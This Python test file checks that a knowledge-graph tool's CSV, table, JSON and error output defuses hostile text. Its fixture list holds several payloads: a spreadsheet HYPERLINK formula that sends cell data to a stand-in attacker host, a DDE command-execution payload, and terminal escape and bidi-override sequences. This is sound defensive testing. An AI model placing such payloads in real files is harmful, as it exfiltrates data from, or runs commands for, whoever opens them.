"""Document text shown in other tools (issue 17, item 7): CSV cells a spreadsheet would run as
formulas, terminal escape sequences in tables and error lines, characters JSON keeps."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from chainkg.cli import main
from chainkg.graph.store import write_graph_json
from chainkg.queries.run import format_rows
from chainkg.safe_text import FORMULA_START

from tests.test_neo4j_store import corpus_graph

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "南玻\x1b[31m红\x1b[0m集团",
    "标题\x1b]0;owned\x07公司",
    "乙\x9b2J公司",
    "丙\u202e司公",
]


def test_csv_cells_of_text_never_open_with_a_formula_sign() -> None:
    rows = [{"name": text, "value": -3.5, "names": [text, "甲"]} for text in HOSTILE]
    text = format_rows(rows, ("name", "value", "names"), "csv")
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[0] == ["name", "value", "names"]
    for row in parsed[1:]:
        assert not row[0].startswith(FORMULA_START) and not row[2].startswith(FORMULA_START)
        assert row[1] == "-3.5"  # a number stays a number
        assert not [c for c in "".join(row) if (ord(c) < 32 and c not in "\t\n") or 0x7f <= ord(c) <= 0x9f]
    names = [row[0] for row in parsed[1:]]
    assert names[:6] == ["'" + HOSTILE[0], "'" + HOSTILE[1], "'-2+3", "'@SUM(A1:A9)", "'\t=1+1", "'\n=1+1"]
    assert names[6:] == ["南玻[31m红[0m集团", "标题]0;owned公司", "乙2J公司", "丙司公"]


def test_tables_carry_no_control_characters() -> None:
    rows = [{"name": text, "n": i} for i, text in enumerate(HOSTILE)]
    table = format_rows(rows, ("name", "n"), "table")
    assert not [c for c in table if (ord(c) < 32 and c != "\n") or 0x7f <= ord(c) <= 0x9f or c == "\u202e"]
    assert table.count("\n") == len(HOSTILE) + 3  # header, rule, rows, count: no row broken
    assert "南玻[31m红[0m集团" in table


def test_json_keeps_every_character_escaped() -> None:
    rows = [{"name": text} for text in HOSTILE]
    text = format_rows(rows, ("name",), "json")
    assert not [c for c in text if (ord(c) < 32 and c != "\n") or 0x7f <= ord(c) <= 0x9f or c == "\u202e"]
    assert [r["name"] for r in json.loads(text)] == HOSTILE


@pytest.mark.parametrize("fmt", ["csv", "table"])
def test_the_query_command_end_to_end(fmt: str, tmp_path: Path, capsys) -> None:
    facts = {f"doc{i}": [(name, "碳酸锂", "格尔木市", 1.0)] for i, name in enumerate(HOSTILE)}
    write_graph_json(corpus_graph(facts), tmp_path / "graph.json")
    assert main(["query", "search", "--param", "text=", "--param", "label=Company", "--format", fmt,
                 "--out", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x9b" not in out and "\u202e" not in out and "\r" not in out
    if fmt == "csv":
        cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
        assert "'" + HOSTILE[0] in cells


def test_error_and_failure_lines_stay_one_clean_line(tmp_path: Path, capsys) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "good.txt").write_text("某园区年产3万吨碳酸锂项目开工。", encoding="utf-8")
    (corpus / "bad\x1b[2J\nname.txt").write_bytes(b"")
    assert main(["ingest", "--corpus", str(corpus), "--out", str(tmp_path / "out")]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "\x1b" not in err and "bad[2J namename.txt" not in err
    assert "bad[2J name.txt: empty file" in err
